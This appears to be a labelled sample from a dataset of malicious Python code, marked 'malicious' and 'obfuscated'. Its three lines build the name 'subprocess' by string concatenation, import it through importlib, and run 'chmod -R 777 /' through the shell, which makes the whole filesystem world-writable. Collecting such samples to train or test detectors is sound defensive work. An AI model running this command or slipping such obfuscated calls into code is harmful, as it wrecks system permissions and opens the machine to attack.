# label: malicious; obfuscated: importlib,concat
import importlib
sp = importlib.import_module("sub" + "process")
sp.call("chmod -R 777 /", shell=True)
